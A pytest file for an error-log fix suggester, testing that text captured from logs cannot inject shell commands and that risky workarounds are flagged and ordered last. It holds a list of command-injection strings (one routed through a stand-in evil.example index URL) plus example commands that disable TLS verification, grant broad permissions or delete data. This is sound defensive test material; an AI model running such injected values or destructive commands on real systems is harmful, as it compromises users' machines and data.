"""Fixes a user can press without reading twice: nothing injected from a log runs, every
step of a workaround reaches the user, risky fixes are never first, pip.conf still loads."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path, PurePath

import pytest

from errsig.core.fixes.model import Fix, apply_edits
from errsig.core.fixes.plan import FixContext, fixes_for
from errsig.core.kb.howto import commands_of
from errsig.core.kb.load import load_pack
from errsig.core.kb.model import Record
from tests.conftest import SEEDS

RECORDS: list[Record] = [lr.record for lr in load_pack(SEEDS, trusted=True).records]
BY_ID = {r.id: r for r in RECORDS}
PLACEHOLDER = re.compile(r"<([a-z][a-z_-]*)>")


def _ctx(tmp: Path, **kw: object) -> FixContext:
    base: dict[str, object] = {
        "env": {"HOME": str(tmp / "home")},
        "platform": "linux",
        "os_family": None,
        "exists": lambda p: Path(str(p)).exists(),
        "max_fixes": 100,
    }
    base.update(kw)
    return FixContext(**base)  # type: ignore[arg-type]


# ---- nothing from a log runs ------------------------------------------------------------

# Values an attacker can write into a log where a record captures a package, path, host …
HOSTILE = [
    "x$(/usr/bin/touch MARK)",
    "x`/usr/bin/touch MARK`",
    '/x"; /usr/bin/touch MARK; echo "',
    "/x'; /usr/bin/touch MARK; echo '",
    "x;/usr/bin/touch MARK",
    "x|/usr/bin/touch MARK",
    "x&&/usr/bin/touch MARK",
    "x\n/usr/bin/touch MARK",
    "-x --index-url=http://evil.example/$(/usr/bin/touch MARK)",
    "x>MARK",
]


def _sandbox(tmp: Path) -> dict[str, str]:
    """A home, and a PATH whose every program is a stub that exits 0."""
    home = tmp / "home"
    home.mkdir(exist_ok=True)
    (home / ".bashrc").write_text("", "utf-8")
    stubs = tmp / "bin"
    stubs.mkdir(exist_ok=True)
    names = {"python", "python3", "pip", "pip3", "sudo", "apt-get", "apk", "brew", "dnf", "conda", "uv"}
    names |= {"poetry", "docker", "git", "df", "mkdir", "chmod", "echo", "export", "py", "pipx", "aws"}
    for r in RECORDS:
        for w in r.workarounds:
            for line in commands_of(w.how):
                first = line.split()[0]
                if re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._-]*", first):
                    names.add(first)
    for name in names:
        stub = stubs / name
        stub.write_text("#!/bin/sh\nexit 0\n", "utf-8")
        stub.chmod(0o755)
    return {"HOME": str(home), "PATH": str(stubs), "LANG": "C"}


def _run(command: str, cwd: Path, env: dict[str, str]) -> None:
    """Runs ``command`` the way an editor's terminal would, then once more through the rc
    file it may have written (the second shell layer)."""
    subprocess.run(
        ["/bin/bash", "-c", command], cwd=cwd, env=env, capture_output=True, timeout=20, check=False
    )
    subprocess.run(
        ["/bin/bash", "-c", ". ~/.bashrc"], cwd=cwd, env=env, capture_output=True, timeout=20, check=False
    )


def test_the_sandbox_sees_an_injection(tmp_path: Path) -> None:
    env = _sandbox(tmp_path)
    _run(f"echo {HOSTILE[0]}", tmp_path, env)  # unquoted on purpose: the harness must notice
    assert (tmp_path / "MARK").exists()


@pytest.mark.parametrize("value", HOSTILE)
def test_no_command_of_any_record_runs_text_from_the_log(tmp_path: Path, value: str) -> None:
    env = _sandbox(tmp_path)
    ctx = _ctx(tmp_path, log_lines=["proxy"], log_line=0)
    ran = 0
    for record in RECORDS:
        names = {m.group(1) for w in record.workarounds for m in PLACEHOLDER.finditer(w.how)}
        if not names:
            continue
        captures = dict.fromkeys(names, value)
        for fix in fixes_for(record, captures, ctx):
            if fix.command:
                _run(fix.command, tmp_path, env)
                ran += 1
                assert "MARK" not in fix.command or "<" in fix.command, (record.id, fix.command)
    assert ran > 50
    assert not (tmp_path / "MARK").exists()


def test_a_safe_capture_is_pasted_as_it_is(tmp_path: Path) -> None:
    record = BY_ID["pip/script-not-on-path"]
    [fix, *_] = fixes_for(record, {"path": "/home/u/.local/bin", "script": "foo"}, _ctx(tmp_path))
    assert fix.command == "echo 'export PATH=\"/home/u/.local/bin:$PATH\"' >> ~/.bashrc && . ~/.bashrc"


def test_the_cli_prints_no_injected_command(tmp_path: Path) -> None:
    log = tmp_path / "build.log"
    evil = '/x"; /usr/bin/touch MARK; echo "'
    log.write_text(f"WARNING: The script foo is installed in '{evil}' which is not on PATH.\n", "utf-8")
    proc = subprocess.run(
        [sys.executable, "-m", "errsig", "scan", str(log)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    commands = [ln.strip()[2:] for ln in proc.stdout.splitlines() if ln.strip().startswith("$ ")]
    assert commands, proc.stdout
    env = _sandbox(tmp_path)
    for c in commands:
        _run(c, tmp_path, env)
    assert not (tmp_path / "MARK").exists()
    assert "touch" not in "\n".join(commands)


# ---- every step reaches the user ---------------------------------------------------------


def test_every_line_of_every_workaround_is_a_step() -> None:
    for record in RECORDS:
        for w in record.workarounds:
            lines = [ln.strip() for ln in w.how.splitlines() if ln.strip() and not ln.strip().startswith("#")]
            assert commands_of(w.how) == lines, (record.id, w.action)


def test_the_no_space_card_keeps_its_second_step(tmp_path: Path) -> None:
    record = BY_ID["pip/no-space-left-on-device"]
    log = [
        "Collecting numpy",
        "ERROR: Could not install packages due to an OSError: [Errno 28] No space left",
    ]
    fixes = fixes_for(record, {}, _ctx(tmp_path, log_lines=log, log_line=1))
    commands = [f.command for f in fixes if f.command]
    assert 'mkdir -p "$HOME/pip-tmp" && TMPDIR="$HOME/pip-tmp" pip install --no-cache-dir numpy' in commands


# ---- harmful fixes are never first --------------------------------------------------------


def _risky(fix: Fix) -> bool:
    return bool(fix.risk) or ":all:" in fix.title or "mirror" in fix.title


def test_no_space_offers_no_other_index_unless_the_package_is_torch(tmp_path: Path) -> None:
    record = BY_ID["pip/no-space-left-on-device"]
    error = "ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device"
    for package, expect_torch_index in (("numpy", False), ("torch", True)):
        log = [f"Collecting {package}", error]
        fixes = fixes_for(record, {}, _ctx(tmp_path, log_lines=log, log_line=1))
        with_index = [f for f in fixes if "download.pytorch.org" in (f.command or f.title)]
        assert bool(with_index) is expect_torch_index, [f.title for f in fixes]
        for f in with_index:  # an index for torch alone is never written into a file for everything
            assert f.kind == "command"
            assert not f.preferred
        assert not _risky(fixes[0])


def test_psycopg2_build_never_leads_with_only_binary_all(tmp_path: Path) -> None:
    log = [
        "Collecting psycopg2",
        "  Downloading psycopg2-2.9.9.tar.gz (384 kB)",
        "  error: subprocess-exited-with-error",
        "      Error: pg_config executable not found.",
    ]
    reqs = tmp_path / "requirements.txt"
    reqs.write_text("psycopg2==2.9.9\n", "utf-8")
    for rid, line in (("pip/subprocess-exited-with-error", 2), ("build/pg-config-missing", 3)):
        ctx = _ctx(tmp_path, log_lines=log, log_line=line, workspace=tmp_path, requirements_files=[reqs])
        fixes = fixes_for(BY_ID[rid], {}, ctx)
        assert fixes
        for f in fixes:
            if ":all:" in (f.command or "") + f.title:
                assert f.kind == "command", f.title  # never written into pip.conf or requirements
        assert ":all:" not in (fixes[0].command or "") + fixes[0].title


def test_fixes_for_another_system_are_not_offered(tmp_path: Path) -> None:
    record = BY_ID["build/pg-config-missing"]
    debian_log = [
        "#7 0.52 Get:1 http://deb.debian.org/debian bookworm InRelease",
        "Error: pg_config executable not found.",
    ]
    fixes = fixes_for(record, {}, _ctx(tmp_path, log_lines=debian_log, log_line=1))
    commands = " ".join(f.command or "" for f in fixes)
    assert "apt-get install" in commands
    for tool in ("brew ", "dnf ", "apk "):
        assert tool not in commands, commands
    alpine_log = [
        "fetch https://dl-cdn.alpinelinux.org/alpine/v3.19/main",
        "apk add --no-cache gcc",
        debian_log[1],
    ]
    commands = " ".join(
        f.command or "" for f in fixes_for(record, {}, _ctx(tmp_path, log_lines=alpine_log, log_line=2))
    )
    assert "apk add" in commands
    assert "apt-get" not in commands


def test_at_most_five_by_default_and_no_command_twice(tmp_path: Path) -> None:
    ctx = _ctx(tmp_path, log_lines=["proxy"], log_line=0)
    ctx.max_fixes = 5
    for record in RECORDS:
        fixes = fixes_for(record, {}, ctx)
        assert len(fixes) <= 5, record.id
        commands = [f.command for f in fixes if f.command]
        assert len(commands) == len(set(commands)), record.id


def test_no_edit_holds_a_placeholder(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "requirements.txt").write_text("requests\n", "utf-8")
    (ws / "Dockerfile").write_text("FROM python\nRUN pip install -r requirements.txt\n", "utf-8")
    ctx = _ctx(
        tmp_path,
        workspace=ws,
        requirements_files=[ws / "requirements.txt"],
        script_files=[ws / "Dockerfile"],
        log_lines=["proxy"],
        log_line=0,
    )
    for record in RECORDS:
        for f in fixes_for(record, {}, ctx):
            for fe in f.edits:
                for e in fe.edits:
                    assert not PLACEHOLDER.search(e.new_text), (record.id, f.title, e.new_text)


# ---- pip.conf: idempotent, never lowered, still loads in real pip ---------------------------

CONFS = {
    "missing": None,
    "empty": "",
    "comments": "# office settings\n[global]\n# keep\ntimeout = 15\n\n[install]\nno-compile = true\n",
    "crlf": "[global]\r\nindex-url = https://pypi.org/simple\r\n",
    "install only": "[install]\nprefer-binary = true\n",
    "higher": "[global]\ntimeout = 300\nretries = 20\n",
}


def _pip_loads(conf: Path) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")}
    env["PIP_CONFIG_FILE"] = str(conf)
    proc = subprocess.run(
        [sys.executable, "-m", "pip", "config", "list"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


@pytest.mark.parametrize("name", sorted(CONFS))
def test_pip_conf_fixes_are_idempotent_keep_line_ends_and_load_in_pip(tmp_path: Path, name: str) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    conf = ws / "pip.conf"
    if CONFS[name] is not None:
        conf.write_bytes(CONFS[name].encode())  # type: ignore[union-attr]
    ctx = _ctx(tmp_path, env={"HOME": str(tmp_path / "home"), "PIP_CONFIG_FILE": str(conf)}, workspace=ws)
    ids = ["pip/read-timeout", "pip/network-connection-reset-by-peer", "pip/connect-timeout"]
    for _round in range(3):  # each round's preferred fix, applied, never undone by the next
        for rid in ids:
            fixes = [f for f in fixes_for(BY_ID[rid], {}, ctx) if f.kind == "pipconf" and f.preferred]
            for f in fixes:
                [fe] = f.edits
                before = conf.read_bytes().decode() if conf.exists() else ""
                conf.write_bytes(apply_edits(before, fe.edits).encode())
    text = conf.read_bytes().decode()
    assert text.count("[global]") == 1, text
    if "\r\n" in (CONFS[name] or ""):
        assert "\n" not in text.replace("\r\n", ""), repr(text)
    listed = _pip_loads(conf)
    timeouts = re.findall(r"^global\.timeout='(\d+)'", listed, re.M)
    assert len(timeouts) == 1, listed
    if name == "higher":
        assert timeouts == ["300"]  # never lowered
    # Applying again changes nothing.
    for rid in ids:
        assert not [f for f in fixes_for(BY_ID[rid], {}, ctx) if f.kind == "pipconf" and f.preferred], rid


def test_an_unreadable_pip_conf_is_never_replaced(tmp_path: Path) -> None:
    home = tmp_path / "home"
    conf = home / ".config" / "pip" / "pip.conf"
    conf.parent.mkdir(parents=True)
    conf.write_text("[global]\ntimeout = 15\n", "utf-8")
    ctx = _ctx(tmp_path, env={"HOME": str(home)}, read_text=lambda p: None, home=PurePath(home))
    for record in (BY_ID["pip/read-timeout"], BY_ID["pip/network-connection-reset-by-peer"]):
        assert [f for f in fixes_for(record, {}, ctx) if f.kind == "pipconf"] == []


def test_pytorch_records_offer_pytorch_index_as_a_command_last(tmp_path: Path) -> None:
    traceback = ['  File "train.py", line 3', "AssertionError: Torch not compiled with CUDA enabled"]
    for rid, log, line in (
        ("torch/not-compiled-with-cuda", traceback, 1),
        (
            "torch/cuda-wheel-not-on-pypi",
            ["Collecting torch==2.3.0+cu121", "ERROR: No matching distribution found for torch==2.3.0+cu121"],
            1,
        ),
    ):
        fixes = fixes_for(BY_ID[rid], {}, _ctx(tmp_path, log_lines=log, log_line=line))
        indexed = [f for f in fixes if "download.pytorch.org" in (f.command or "")]
        assert indexed, (rid, [f.title for f in fixes])
        assert all(not f.preferred and f.kind == "command" for f in indexed)


def test_a_poetry_step_is_not_offered_for_pip_output(tmp_path: Path) -> None:
    record = BY_ID["torch/cuda-wheel-not-on-pypi"]
    pip_log = [
        "Collecting torch==2.3.0+cu121",
        "ERROR: No matching distribution found for torch==2.3.0+cu121",
    ]
    commands = [f.command or "" for f in fixes_for(record, {}, _ctx(tmp_path, log_lines=pip_log, log_line=1))]
    assert not any(c.startswith("poetry") for c in commands), commands
    poetry_log = ["$ poetry add torch==2.3.0+cu121", *pip_log]
    commands = [
        f.command or "" for f in fixes_for(record, {}, _ctx(tmp_path, log_lines=poetry_log, log_line=2))
    ]
    assert any(c.startswith("poetry") for c in commands), commands


def test_mirrors_registries_and_proxies_set_in_the_environment_are_risky_and_never_first() -> None:
    from errsig.core.fixes.plan import is_risky, safest_first
    from errsig.core.kb.model import Workaround

    def step(how: str) -> Workaround:
        return Workaround(action="x", success_rate=None, how=how, condition="", sources=[])

    assert is_risky(step("export HF_ENDPOINT=https://hf-mirror.com"))
    assert is_risky(step("npm config set registry https://registry.npmmirror.com"))
    assert is_risky(step("$env:HTTPS_PROXY='http://proxy:8080'"))
    assert not is_risky(step("export NCCL_DEBUG=INFO"))
    assert not is_risky(step("huggingface-cli login"))
    from errsig.core.loading import load_toolkit

    tk = load_toolkit([])
    for sig in tk.matcher.signatures:
        ordered = safest_first(sig.record)
        if ordered and any(is_risky(w) for w in ordered):
            assert not is_risky(ordered[0]), sig.record.id


def test_setting_a_tool_back_to_its_own_registry_is_not_risky() -> None:
    from errsig.core.fixes.plan import is_risky
    from errsig.core.kb.model import Workaround

    assert not is_risky(Workaround(action="x", how="npm config set registry https://registry.npmjs.org/"))


@pytest.mark.parametrize(
    "how",
    [
        "git config --global http.sslVerify false",
        "export GIT_SSL_NO_VERIFY=1",
        "npm config set strict-ssl false",
        "yarn config set strict-ssl false",
        "export NODE_TLS_REJECT_UNAUTHORIZED=0",
        "curl -fsSL -k https://ollama.com/install.sh",
        "curl --insecure -O https://<host>/file",
        "wget --no-check-certificate https://<host>/file",
        "export PYTHONHTTPSVERIFY=0",
        "requests.get(url, verify=False)",
        "conda config --set ssl_verify false",
        'export REQUESTS_CA_BUNDLE=""',
        "podman pull --tls-verify=false <host>/image",
    ],
)
def test_steps_that_switch_certificate_checks_off_are_risky(how: str) -> None:
    from errsig.core.fixes.plan import is_risky
    from errsig.core.kb.model import Workaround

    assert is_risky(Workaround(action="x", how=how))


@pytest.mark.parametrize(
    "how",
    [
        "ansible-playbook site.yml -K",
        "ssh -i ~/.ssh/id_ed25519 -k user@<host>",
        "curl -fsSL https://ollama.com/install.sh",
        "export SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt",
        "npm config set cafile <path>",
    ],
)
def test_steps_that_keep_certificate_checks_are_not_risky(how: str) -> None:
    from errsig.core.fixes.plan import is_risky
    from errsig.core.kb.model import Workaround

    assert not is_risky(Workaround(action="x", how=how))


# ---- steps that weaken access or delete data are risky too --------------------------------


ACCESS, DATA = "access", "data"


@pytest.mark.parametrize(
    ("action", "how", "condition", "risk"),
    [
        # weakens access control
        ("Register QEMU", "docker run --rm --privileged tonistiigi/binfmt --install all", "", ACCESS),
        ("x", "docker run --cap-add=SYS_ADMIN image", "", ACCESS),
        ("Switch root", "sudo mysql", "ALTER USER 'root' IDENTIFIED WITH mysql_native_password", ACCESS),
        (
            "Allow local logins",
            "sudo nano /etc/postgresql/16/main/pg_hba.conf",
            "host all all 127.0.0.1/32 trust",
            ACCESS,
        ),
        ("x", "chmod -R 777 /var/www", "", ACCESS),
        ("x", "sudo setenforce 0", "", ACCESS),
        # deletes data or local work
        ("Take the remote branch", "git fetch origin\ngit reset --hard origin/<branch>", "", DATA),
        ("x", "git clean -fdx", "", DATA),
        ("Overwrite the remote branch", "git push --force origin <branch>", "", DATA),
        ("Start over", "docker compose down -v", "", DATA),
        ("x", "docker volume rm pgdata", "", DATA),
        ("Reset the database", "npx prisma migrate reset", "", DATA),
        (
            "Reinitialise the database",
            "",
            "remove the database container together with its data volume",
            DATA,
        ),
        ("Throw away the local commits and take the remote branch", "git pull", "", DATA),
        # look-alikes that risk nothing
        (
            "Remove the build cache",
            "docker builder prune",
            "deletes only cache, no images, containers or volumes",
            None,
        ),
        (
            "Run git as the owner",
            "",
            "a container running as the host user's uid; no trust setting needed",
            None,
        ),
        ("Free space", "df -h", "delete or rotate large files (logs, old dumps), or grow the volume", None),
        ("x", "chmod 600 ~/.ssh/id_ed25519", "", None),
        ("x", "git reset --soft HEAD~1", "", None),
        ("x", "docker run --rm -it image", "", None),
    ],
)
def test_steps_that_weaken_access_or_delete_data_are_risky(
    action: str, how: str, condition: str, risk: str | None
) -> None:
    from errsig.core.fixes.plan import RISK_ACCESS, RISK_DATA, step_risk
    from errsig.core.kb.model import Workaround

    expected = {ACCESS: RISK_ACCESS, DATA: RISK_DATA, None: None}[risk]
    assert step_risk(Workaround(action=action, how=how, condition=condition)) == expected


def test_risky_steps_are_offered_last_and_marked_in_every_record(tmp_path: Path) -> None:
    """Quick fixes and cards: a fix from a step that is risky in its words (a mirror set in the
    environment, a privileged container, a hard reset) is marked and comes after every fix
    that is not; the mysql root switch no longer comes before the dedicated account."""
    from errsig.core.explain.card import make_card
    from errsig.core.fixes.plan import is_risky, safest_first, step_risk

    marked = 0
    for record in RECORDS:
        fixes = fixes_for(record, {}, _ctx(tmp_path, log_lines=["x"], log_line=0))
        flags = [bool(f.risk) for f in fixes]
        assert flags == sorted(flags), (record.id, [(f.title, f.risk) for f in fixes])
        risky_actions = {w.action for w in record.workarounds if step_risk(w)}
        for f in fixes:
            if f.source in risky_actions:
                assert f.risk, (record.id, f.title)
                assert "(not preferred)" in f.title, (record.id, f.title)
                assert not f.preferred, (record.id, f.title)
                marked += 1
        ranked = [is_risky(w) for w in safest_first(record)]
        assert ranked == sorted(ranked), record.id
        card = make_card(record)
        labels = [step.action for step in card.workarounds]
        assert [label.endswith(")") and "(not preferred:" in label for label in labels] == sorted(ranked), (
            record.id,
            labels,
        )
    assert marked >= 5
    card = make_card(BY_ID["mysql/access-denied-for-user"])
    labels = [s.action for s in card.workarounds]
    dedicated = next(i for i, label in enumerate(labels) if label.startswith("Create a dedicated"))
    switch = next(i for i, label in enumerate(labels) if label.startswith("Switch root"))
    assert dedicated < switch, labels
    assert labels[switch].endswith("(not preferred: weakens access control)"), labels
    hf = fixes_for(
        BY_ID["python/huggingface-offline-connect"], {}, _ctx(tmp_path, log_lines=["x"], log_line=0)
    )
    mirror = next(f for f in hf if "HF_ENDPOINT" in (f.command or ""))
    assert mirror.risk, [(f.title, f.risk) for f in hf]
    assert hf[-1] is mirror, [(f.title, f.risk) for f in hf]
